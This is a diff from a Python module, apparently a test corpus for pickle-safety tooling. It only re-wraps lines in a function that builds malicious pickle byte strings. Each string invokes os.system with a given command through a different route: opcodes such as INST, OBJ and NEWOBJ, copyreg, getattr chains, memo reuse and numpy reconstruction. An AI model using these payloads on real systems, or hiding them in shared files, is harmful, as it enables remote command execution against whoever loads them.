@@ -11,7 +11,6 @@ import pickle
 import struct
 import zipfile
 
-
 LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
 
 
@@ -82,9 +81,10 @@ def ways(command: str) -> dict[str, bytes]:
         "STACK_GLOBAL": b"\x8c\x02os\x8c\x06system\x93(" + shell + b"tR",
         "INST": b"(" + shell + b"ios\nsystem\n",
         "OBJ": b"(" + system + shell + b"o",
-        "NEWOBJ": name("builtins", "bytes") + mapped + system + b"](" + shell + b"e\x86\x81\x85\x81",
-        "NEWOBJ_EX": name("builtins", "bytes") + mapped + system + b"](" + shell + b"e\x86}\x92\x85}"
-        b"\x92",
+        "NEWOBJ": name("builtins", "bytes") + mapped + system + b"](" + shell
+        + b"e\x86\x81\x85\x81",
+        "NEWOBJ_EX": name("builtins", "bytes") + mapped + system + b"](" + shell
+        + b"e\x86}\x92\x85}\x92",
         "BUILD calls __setstate__": called("functools", "partial", name("builtins", "int"))
         + b"(" + system + b"(" + shell + b"t" + empty + none + b"tb)R",
         "getattr": called("builtins", "getattr", called("builtins", "getattr", os_path, text("os")),
@@ -94,7 +94,8 @@ def ways(command: str) -> dict[str, bytes]:
         "a pickle in a pickle": called("pickle", "loads", counted),
         "from the memo": system + b"p900\n0g900\n(" + shell + b"tR",
         "thrown away": run + b"0N",
-        "extension registry": called("copyreg", "add_extension", text("os"), text("system"), b"K\x42")
+        "extension registry": called("copyreg", "add_extension", text("os"), text("system"),
+                                     b"K\x42")
         + b"0\x82\x42(" + shell + b"tR",
         "in a dictionary": empty + text("a") + run + b"s",
         "numpy's _reconstruct": object_array + b"(K\x01K\x01\x85"
